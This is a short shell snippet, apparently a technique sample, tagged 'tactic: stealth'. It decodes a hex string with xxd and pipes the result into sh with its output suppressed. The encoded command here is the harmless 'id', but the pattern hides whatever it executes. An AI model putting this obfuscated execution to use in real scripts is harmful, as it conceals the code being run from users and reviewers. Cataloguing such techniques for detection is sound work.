# tactic: stealth
# decode a hex payload and pipe it into a shell
echo 6964 | xxd -r -p | sh >/dev/null
